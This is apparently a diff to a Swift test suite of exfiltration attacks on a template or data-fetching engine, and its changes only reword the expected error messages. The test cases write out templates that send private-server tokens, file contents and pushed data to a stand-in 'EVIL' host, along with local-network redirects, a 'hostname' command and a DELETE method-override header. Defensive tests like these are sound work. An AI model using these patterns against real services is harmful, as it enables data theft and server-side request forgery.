@@ -38,73 +38,73 @@ struct ExfiltrationTests {
     Attack(
       "a foreign server names the host, a private one the query",
       "{ \(evil), \(localData), \"c\": { \"url\": \"{evil.base}/?x={local.token}\" } }", named,
-      local: ["/data"], "puts what the sources 'evil' and 'local' gave into one address"),
+      local: ["/data"], "combines data from the sources 'evil' and 'local' in one address"),
     Attack(
       "a foreign server chooses the path on a private one",
       "{ \(evil), \(localData), \"c\": { \"url\": \"{evil.home}{local.token}\" } }", named,
-      local: ["/data"], "puts what the sources 'evil' and 'local' gave into one address"),
+      local: ["/data"], "combines data from the sources 'evil' and 'local' in one address"),
     Attack(
       "a file's data to a host that the file names",
       "{ \(file), \"c\": { \"url\": \"{file.base}/?x={file.token}\" } }", namedFile,
-      "sends what 'file' gave to a server"),
+      "sends data from 'file' to a server"),
     Attack(
       "an address of a file", "{ \(file), \"c\": { \"url\": \"{file.url}\" } }", namedFile,
-      "sends what 'file' gave to a server"),
+      "sends data from 'file' to a server"),
     Attack(
       "a file's data to the template's own server",
       "{ \(file), \"c\": { \"url\": \"http://EVIL/?x={file.token}\" } }", namedFile,
-      "sends what 'file' gave to a server"),
+      "sends data from 'file' to a server"),
     Attack(
       "pushed data to a host that it names",
       "{ \(pushed), \"c\": { \"url\": \"{pushed.base}/{pushed.token}\" } }",
-      "sends what 'pushed' gave to a server"),
+      "sends data from 'pushed' to a server"),
     Attack(
       "pushed data beside a foreign host",
       "{ \(evil), \(pushed), \"c\": { \"url\": \"{evil.base}/{pushed.token}\" } }",
-      "puts what the sources 'evil' and 'pushed' gave into one address"),
+      "combines data from the sources 'evil' and 'pushed' in one address"),
     Attack(
       "an address of pushed data", "{ \(pushed), \"c\": { \"url\": \"{pushed.url}\" } }",
-      "sends what 'pushed' gave to a server"),
+      "sends data from 'pushed' to a server"),
     Attack(
       "an address of a private server", "{ \(localData), \"c\": { \"url\": \"{local.url}\" } }",
-      named, local: ["/data"], "sends what 'local' gave to another server"),
+      named, local: ["/data"], "sends data from 'local' to another server"),
     Attack(
       "a private server's data to a host that it names",
       "{ \(localData), \"c\": { \"url\": \"{local.base}/?x={local.token}\" } }", named,
-      local: ["/data"], "adds to the address that 'local' gave"),
+      local: ["/data"], "appends to the address from 'local'"),
     Attack(
       "a private server's data to the template's own server",
       "{ \(localData), \"c\": { \"url\": \"http://EVIL/?x={local.token}\" } }", named,
-      local: ["/data"], "sends what 'local' gave to another server"),
+      local: ["/data"], "sends data from 'local' to another server"),
     Attack(
       "a private server's data to a parameter's server",
       "{ \(localData), \"c\": { \"url\": \"{key}/?x={local.token}\" } }",
       ["server": "http://LOCAL", "key": "http://EVIL"],
-      local: ["/data"], "sends what 'local' gave to another server"),
+      local: ["/data"], "sends data from 'local' to another server"),
     Attack(
       "a parameter to a host that a server names",
       "{ \(evil), \"c\": { \"url\": \"{evil.url}/?x={key}\" } }", ["key": AttackStage.secret],
-      "adds to the address that 'evil' gave"),
+      "appends to the address from 'evil'"),
     Attack(
       "more of a server's data to a host that it names",
       "{ \(evil), \"c\": { \"url\": \"{evil.url}/{evil.token}\" } }",
-      "adds to the address that 'evil' gave"),
+      "appends to the address from 'evil'"),
     Attack(
       "a picture whose address a private server gives",
       "{ \(localData), \"c\": { \"url\": \"{local.url}\", \"format\": \"picture\" } }", named,
-      local: ["/data"], "sends what 'local' gave to another server"),
+      local: ["/data"], "sends data from 'local' to another server"),
     Attack(
       "a link of a private feed",
       #"{ "news": { "url": "{server}/feed", "format": "feed" }, "c": { "url": "{news.items.0.link}" } }"#,
-      named, local: ["/feed"], "sends what 'news' gave to another server"),
+      named, local: ["/feed"], "sends data from 'news' to another server"),
     Attack(
       "a link of a calendar in a file",
       #"{ "day": { "file": "{file}", "format": "calendar" }, "c": { "url": "{day.events.0.url}" } }"#,
-      ["file": "FOLDER/secret.ics"], "sends what 'day' gave to a server"),
+      ["file": "FOLDER/secret.ics"], "sends data from 'day' to a server"),
     Attack(
       "what another server gave after a redirect",
       #"{ "led": { "url": "http://EVIL/to-other" }, "c": { "url": "http://EVIL/?x={led.token}" } }"#,
-      "sends what 'led' gave to another server"),
+      "sends data from 'led' to another server"),
     Attack(
       "a private server that leads away with what it is sent",
       "{ \(localData), \"c\": { \"url\": \"{server}/go/{local.token}\" } }", named,
@@ -114,11 +114,11 @@ struct ExfiltrationTests {
       "{ \(localData), \"b\": { \"url\": \"{server}/b/{local.token}\" }, "
         + "\"c\": { \"url\": \"http://EVIL/{b.token}\" } }",
       named, local: ["/data", "/b/\(AttackStage.secret)"],
-      "sends what 'b' gave to another server"),
+      "sends data from 'b' to another server"),
     Attack(
       "a chain that begins with a file",
       "{ \(file), \"b\": { \"url\": \"{file.url}\" }, \"c\": { \"url\": \"{b.url}\" } }", namedFile,
-      refused: "b", "sends what 'file' gave to a server"),
+      refused: "b", "sends data from 'file' to a server"),
     Attack(
       "the output of a program", #"{ "c": { "command": ["hostname"], "format": "text" } }"#,
       "the template runs 'hostname', which is not allowed"),
@@ -176,7 +176,7 @@ struct ExfiltrationTests {
       "is an address of this machine or its network"),
     Attack(
       "a redirect to a private server", #"{ "c": { "url": "http://EVIL/to-local" } }"#,
-      "is an address of the local network, to which another server leads"),
+      "is an address of the local network, to which another server redirects"),
     Attack(
       "a field that a private server may obey",
       #"{ "c": { "url": "{server}/", "headers": { "X-HTTP-Method-Override": "DELETE" } } }"#, named,
